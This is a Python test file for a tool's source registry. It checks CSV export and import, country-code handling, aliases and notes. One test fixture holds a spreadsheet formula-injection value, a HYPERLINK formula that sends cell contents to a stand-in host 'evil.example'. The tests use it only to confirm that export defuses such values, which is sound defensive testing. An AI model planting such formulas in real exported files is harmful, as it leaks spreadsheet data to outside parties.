"""The registry file that ``sources export`` writes and ``sources import`` reads."""

from __future__ import annotations

import csv
import io
import json
from pathlib import Path

import pytest

from rescuewatch.assess.registry import parse
from tests.conftest import Invoker

#: Source names as a report's "Source:" line may give them, each with its expected cell.
NAMES = {
    '=HYPERLINK("http://evil.example/?"&A1,"Reuters")':
        '\'=HYPERLINK("http://evil.example/?"&A1,"Reuters")',
    "+1 Agency": "'+1 Agency",
    "-Agency": "'-Agency",
    "@agency": "'@agency",
    "\tTabbed": "'\tTabbed",
    "'=1": "''=1",  # its own quote kept: import takes one off
    "'Ayn News": "'Ayn News",  # no formula: as it is
    "Plain News": "Plain News",
}


def test_a_formula_in_a_source_name_is_defused_and_imported_back(tmp_path: Path) -> None:
    exported = tmp_path / "sources.csv"
    rw = Invoker(f"sqlite:///{tmp_path / 'a.db'}")
    for n, name in enumerate(NAMES):
        result = rw("sources", "set", f"source{n}.example", "--name", name, "--reason", "seen")
        assert result.exit_code == 0, result.output
    assert rw("sources", "export", "-o", str(exported)).exit_code == 0
    cells = {row["key"]: row["name"]
             for row in csv.DictReader(io.StringIO(exported.read_text(encoding="utf-8")))}
    assert [cells[f"source{n}.example"] for n in range(len(NAMES))] == list(NAMES.values())

    again = Invoker(f"sqlite:///{tmp_path / 'b.db'}")
    result = again("sources", "import", str(exported), "--reason", "registry v1")
    assert result.exit_code == 0, result.output
    names = {s["key"]: s["name"] for s in json.loads(again("sources", "list", "--json").output)}
    assert [names[f"source{n}.example"] for n in range(len(NAMES))] == list(NAMES)


@pytest.mark.parametrize(("cell", "value"), [
    ("'=SUM(A1)", "=SUM(A1)"), ("''=1", "'=1"), ("'Ayn", "'Ayn"), ("'", "'"), ("=1", "=1"),
])
def test_import_takes_off_only_the_quote_export_puts(cell: str, value: str) -> None:
    (entry,) = parse(f"key,name\nk,{cell}\n", "sources.csv")
    assert entry.name == value


def test_a_country_is_taken_in_either_case_and_an_alpha3_code_names_its_alpha2(
        tmp_path: Path) -> None:
    # `sources set --country ru` was taken but the same `ru` in a registry file was refused,
    # and neither refusal of `RUS` said what to write instead (export --country does).
    rw = Invoker(f"sqlite:///{tmp_path / 'a.db'}")
    result = rw("sources", "set", "x.example", "--country", "RUS", "--reason", "r")
    assert result.exit_code == 2
    assert "--country" in result.output and "use RU" in result.output
    registry = tmp_path / "sources.csv"
    registry.write_text("key,name,country\nx.example,X,RUS\n", encoding="utf-8")
    result = rw("sources", "import", str(registry), "--reason", "r")
    assert result.exit_code == 2
    assert "row 2, column 'country'" in result.output and "use RU" in result.output
    registry.write_text("key,name,country\nx.example,X,ru\n", encoding="utf-8")
    assert rw("sources", "import", str(registry), "--reason", "r").exit_code == 0
    assert rw("sources", "set", "y.example", "--country", "ua", "--reason", "r").exit_code == 0
    countries = {s["key"]: s["country"] for s in json.loads(rw("sources", "list", "--json").output)}
    assert countries == {"x.example": "RU", "y.example": "UA"}


def test_an_imported_registry_s_aliases_and_notes_are_kept_and_fill_a_later_source(
        tmp_path: Path) -> None:
    # aliases and notes were read and dropped: a report arriving under a publisher's other
    # key stayed "unknown", and `sources export` wrote both columns back empty
    rw = Invoker(f"sqlite:///{tmp_path / 'a.db'}")
    registry = tmp_path / "sources.csv"
    registry.write_text(
        "key,name,kind,country,affiliation,aliases,notes\n"
        "outlet-x.example,Outlet X,independent_media,,independent,"
        "Outlet X Wire;t.me/outletx,checked 2026-12\n", encoding="utf-8")
    assert rw("sources", "import", str(registry), "--reason", "our registry").exit_code == 0
    report = tmp_path / "report.txt"
    report.write_text("Published: 2024-03-07\nSource: Outlet X Wire\n\nAn ambulance was hit "
                      "by shelling in Kherson on Thursday, wounding two paramedics.\n",
                      encoding="utf-8")
    assert rw("ingest", str(report)).exit_code == 0
    assert rw("assess").exit_code == 0
    sources = {s["key"]: s for s in json.loads(rw("sources", "list", "--json").output)}
    arrived = next(s for key, s in sources.items() if key != "outlet-x.example")
    assert (arrived["kind"], arrived["affiliation"]) == ("independent_media", "independent")
    exported = tmp_path / "out.csv"
    assert rw("sources", "export", "-o", str(exported)).exit_code == 0
    rows = {r["key"]: r for r in csv.DictReader(io.StringIO(exported.read_text(encoding="utf-8")))}
    assert rows["outlet-x.example"]["aliases"] == "outlet x wire;t.me/outletx"
    assert rows["outlet-x.example"]["notes"] == "checked 2026-12"
    audit = json.loads(rw("audit", "--json").output)
    assert any(a["reason"] == "filled from an imported source registry" for a in audit)


def test_sources_set_keeps_the_aliases_and_notes_it_is_not_given(tmp_path: Path) -> None:
    rw = Invoker(f"sqlite:///{tmp_path / 'a.db'}")
    assert rw("sources", "set", "outlet-x.example", "--aliases", "Outlet X Wire;t.me/outletx",
              "--notes", "checked", "--reason", "r").exit_code == 0
    assert rw("sources", "set", "outlet-x.example", "--kind", "independent_media",
              "--reason", "r").exit_code == 0

    def stored() -> tuple[str | None, str | None]:
        (source,) = json.loads(rw("sources", "list", "--json").output)
        return source["aliases"], source["notes"]

    assert stored() == ("outlet x wire;t.me/outletx", "checked")
    assert rw("sources", "set", "outlet-x.example", "--aliases", "", "--notes", "",
              "--reason", "r").exit_code == 0
    assert stored() == (None, None)


def test_a_source_named_by_its_url_takes_the_registry_s_name(tmp_path: Path) -> None:
    # the Source: line's URL stayed the publisher's name after the registry described it
    rw = Invoker(f"sqlite:///{tmp_path / 'a.db'}")
    report = tmp_path / "report.txt"
    report.write_text("Published: 2024-03-07\nSource: https://www.reuters.com/world/x-1\n\n"
                      "An ambulance was hit by shelling in Kherson on Thursday, wounding two "
                      "paramedics.\n", encoding="utf-8")
    assert rw("ingest", str(report)).exit_code == 0
    assert rw("assess").exit_code == 0
    (source,) = json.loads(rw("sources", "list", "--json").output)
    assert source["key"] == "reuters.com" and source["name"] == "Reuters"
    assert source["kind"] != "unknown"
